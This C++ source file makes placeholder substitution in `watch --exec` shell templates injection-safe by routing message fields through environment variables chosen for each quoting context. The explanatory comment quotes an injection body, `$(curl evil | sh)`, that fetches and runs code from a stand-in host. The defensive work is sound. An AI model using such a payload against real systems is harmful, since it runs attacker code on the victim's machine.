// Placeholders in `watch --exec` templates.
//
// The reference tool pasted raw message text into `sh -c`, so a body such as
// `$(curl evil | sh)` ran on the receiver. Quoting the value is only safe if we know the
// quoting context it lands in: a single-quoted value dropped inside the user's "…"
// becomes live again (`"$(x)"` runs x). So values never enter the command text at all.
// The template is scanned once, tracking whether each placeholder sits outside quotes,
// inside double quotes or inside single quotes, and the placeholder is replaced by a
// reference to an environment variable that is correct for that context:
//
//   outside quotes  {{body}}   →  "${BCH_BODY}"
//   inside "…"      "{{body}}" →  "${BCH_BODY}"      (the user's quotes stay)
//   inside '…'      '{{body}}' →  '"${BCH_BODY}"'    (close, expand, reopen)
//
// The shell performs parameter expansion on the variable's value but never parses that
// value as code, whatever it contains. The variables are set in the child's environment
// only (see cmd_watch.cpp).

#include <bch/error.hpp>
#include <bch/shell.hpp>

#include <fmt/format.h>

#include <array>

namespace bch {
namespace {

struct Placeholder {
  std::string_view name;
  std::string_view variable;
};

constexpr std::array<Placeholder, 7> k_placeholders{{
    {"body", "BCH_BODY"},
    {"from", "BCH_FROM"},
    {"to", "BCH_TO"},
    {"id", "BCH_ID"},
    {"priority", "BCH_PRIORITY"},
    {"scope", "BCH_SCOPE"},
    {"thread", "BCH_THREAD"},
}};

enum class Quote { none, single, dbl };

}  // namespace

std::string compile_exec_template(std::string_view tmpl) {
  std::string out;
  Quote quote = Quote::none;
  for (std::size_t i = 0; i < tmpl.size(); ++i) {
    char c = tmpl[i];
    if (tmpl.substr(i, 2) == "{{") {
      auto close = tmpl.find("}}", i + 2);
      if (close == std::string_view::npos) {
        throw Error(ErrorKind::usage, "unterminated {{ in --exec template");
      }
      std::string_view name = tmpl.substr(i + 2, close - i - 2);
      const Placeholder* found = nullptr;
      for (const auto& p : k_placeholders) {
        if (p.name == name) {
          found = &p;
        }
      }
      if (found == nullptr) {
        throw Error(ErrorKind::usage,
                    fmt::format("unknown placeholder {{{{{}}}}} in --exec template (known: body, "
                                "from, to, id, priority, scope, thread)",
                                name));
      }
      switch (quote) {
        case Quote::none:
          out += fmt::format("\"${{{}}}\"", found->variable);
          break;
        case Quote::dbl:
          out += fmt::format("${{{}}}", found->variable);
          break;
        case Quote::single:
          out += fmt::format("'\"${{{}}}\"'", found->variable);
          break;
      }
      i = close + 1;
      continue;
    }
    out += c;
    if (quote == Quote::single) {
      if (c == '\'') {
        quote = Quote::none;
      }
    } else if (c == '\\' && i + 1 < tmpl.size()) {
      out += tmpl[++i];  // an escaped character never opens or closes a quote
    } else if (c == '\'' && quote == Quote::none) {
      quote = Quote::single;
    } else if (c == '"') {
      quote = quote == Quote::dbl ? Quote::none : Quote::dbl;
    }
  }
  return out;
}

std::vector<std::pair<std::string, std::string>> exec_environment(const Message& message) {
  return {
      {"BCH_ID", message.id},
      {"BCH_FROM", message.from},
      {"BCH_TO", message.to},
      {"BCH_BODY", message.body},
      {"BCH_PRIORITY", to_string(message.priority)},
      {"BCH_SCOPE", message.scope.value_or("")},
      {"BCH_THREAD", message.thread.value_or("")},
  };
}

std::string shell_quote(std::string_view text) {
  std::string out = "'";
  for (char c : text) {
    if (c == '\'') {
      out += "'\\''";
    } else {
      out += c;
    }
  }
  out += '\'';
  return out;
}

}  // namespace bch
